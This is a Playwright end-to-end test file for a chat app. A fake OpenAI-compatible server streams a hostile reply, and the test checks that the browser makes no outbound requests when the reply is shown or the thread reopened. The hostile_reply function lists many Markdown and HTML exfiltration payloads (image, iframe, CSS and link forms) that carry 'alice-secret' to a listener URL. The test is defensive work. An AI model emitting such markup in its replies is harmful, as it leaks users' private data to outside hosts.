"""In real Chromium: a hostile model's reply, streamed and reopened, makes the browser call out to nobody."""

from __future__ import annotations

import json
import re
import socket
import tempfile
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.conftest import create_database
from tests.e2e.conftest import USERS, AppServer

pytestmark = pytest.mark.e2e

THREAD_URL = re.compile(r".*/thread/([0-9a-f-]{36})$")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def hostile_reply(target: str) -> str:
    """Every way Markdown or HTML could make a browser fetch `target`, with data in the URL."""
    leak = f"{target}/leak?d=alice-secret"
    host = target.removeprefix("http://")
    return "\n\n".join(
        [
            "Here is your answer, hostile-reply-marker.",
            f"Inline ![a]({leak}&v=inline) image.",
            f"Reference ![b][r] image.\n\n[r]: {leak}&v=reference",
            f'Titled ![c]({leak}&v=title "t") and spaced ![d]( {leak}&v=spaced ).',
            f"Upper ![e](HTTP://{host}/leak?v=upper) entity ![f](&#104;ttp://{host}/leak?v=entity).",
            f"Protocol-relative ![g](//{host}/leak?v=protocol).",
            f'<img src="{leak}&v=img">',
            f'<picture><source srcset="{leak}&v=srcset"></picture>',
            f'<video poster="{leak}&v=poster"></video>',
            f'<iframe src="{leak}&v=iframe"></iframe>',
            f'<link rel="stylesheet" href="{leak}&v=link">',
            f'<object data="{leak}&v=object"></object>',
            f'<div style="background:url({leak}&v=css)">styled</div>',
            f"Autolink <{leak}&v=autolink> and a [link]({leak}&v=click) and bare {leak}&v=bare .",
            "| col | val |\n| --- | --- |\n" + f"| x | ![t]({leak}&v=table) |",
        ]
    )


class _Counter(BaseHTTPRequestHandler):
    """Counts every request that reaches it."""

    hits: list[str] = []

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()

    do_POST = do_HEAD = do_GET

    def log_message(self, *args: object) -> None:
        pass


def _fake_model(reply: str) -> type[BaseHTTPRequestHandler]:
    """An OpenAI-compatible Chat Completions server that answers every request with `reply`."""

    class FakeModel(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.0"

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))) or b"{}")
            model = body.get("model", "m")
            if not body.get("stream"):
                message = {"role": "assistant", "content": reply}
                payload = {"id": "c1", "object": "chat.completion", "created": 0, "model": model,
                           "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
                           "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}}  # fmt: skip
                data = json.dumps(payload).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)
                return
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.end_headers()
            # Seven characters a token: every construct is cut across tokens somewhere.
            deltas = [{"role": "assistant", "content": ""}]
            deltas += [{"content": reply[i : i + 7]} for i in range(0, len(reply), 7)]
            for delta in deltas:
                chunk = {"id": "c1", "object": "chat.completion.chunk", "created": 0, "model": model,
                         "choices": [{"index": 0, "delta": delta, "finish_reason": None}]}  # fmt: skip
                self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
            done = {"id": "c1", "object": "chat.completion.chunk", "created": 0, "model": model,
                    "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}  # fmt: skip
            self.wfile.write(f"data: {json.dumps(done)}\n\ndata: [DONE]\n\n".encode())
            self.wfile.flush()

        def log_message(self, *args: object) -> None:
            pass

    return FakeModel


def _serve(handler: type[BaseHTTPRequestHandler]) -> tuple[ThreadingHTTPServer, str]:
    server = ThreadingHTTPServer(("127.0.0.1", _free_port()), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[list[str], str]]:
    _Counter.hits = []
    server, url = _serve(_Counter)
    yield _Counter.hits, url
    server.shutdown()


@pytest.fixture(scope="module")
def hostile_app(pg_server_url: str, listener: tuple[list[str], str]) -> Iterator[AppServer]:
    model, model_url = _serve(_fake_model(hostile_reply(listener[1])))
    with tempfile.TemporaryDirectory(prefix="cairn-e2e-") as folder:
        server = AppServer(
            database_url=create_database(pg_server_url),
            data_dir=Path(folder),
            extra_env={
                # Chainlit's CI mode overwrites OPENAI_API_KEY; the CAIRN_ name comes first.
                "CAIRN_OPENAI_API_KEY": "sk-test-hostile",
                "CAIRN_OPENAI_BASE_URL": f"{model_url}/v1",
                "CAIRN_MODEL_MAX_RETRIES": "0",
                "NO_PROXY": "127.0.0.1,localhost",
            },
        )
        server.start()
        try:
            yield server
        finally:
            server.stop()
            model.shutdown()


def _login(browser, server: AppServer):
    page = browser.new_context().new_page()
    page.set_default_timeout(30_000)
    response = page.goto(server.url)
    page.get_by_role("button", name="Continue with").click()
    page.get_by_label("Username").fill("alice")
    page.get_by_label("Password").fill(USERS["alice"])
    page.get_by_role("button", name="Sign in").click()
    page.locator("#chat-input").wait_for()
    # on_chat_start has run once the chat settings it sends are there.
    page.locator("#chat-settings-open-modal").wait_for()
    return page, response


def test_hostile_reply_fetches_nothing_streamed_or_reopened(hostile_app, browser, listener):
    hits, _url = listener
    page, _ = _login(browser, hostile_app)
    csp = page.request.get(hostile_app.url).headers.get("content-security-policy", "")
    assert "img-src 'self'" in csp

    page.locator("#chat-input").fill("What is on my calendar?")
    page.keyboard.press("Enter")
    expect(page.get_by_text("hostile-reply-marker")).to_be_visible()
    expect(page.get_by_text("image removed: 127.0.0.1").first).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert hits == [], f"the browser called out while the reply streamed: {hits}"

    page.wait_for_url(THREAD_URL)
    page.reload()
    expect(page.get_by_text("hostile-reply-marker")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert hits == [], f"the browser called out when the conversation was reopened: {hits}"

    # Still a working app: another turn gets its reply.
    page.locator("#chat-input").fill("And tomorrow?")
    page.keyboard.press("Enter")
    expect(page.get_by_text("hostile-reply-marker")).to_have_count(2)
    page.wait_for_load_state("networkidle")
    assert hits == []
    page.context.close()
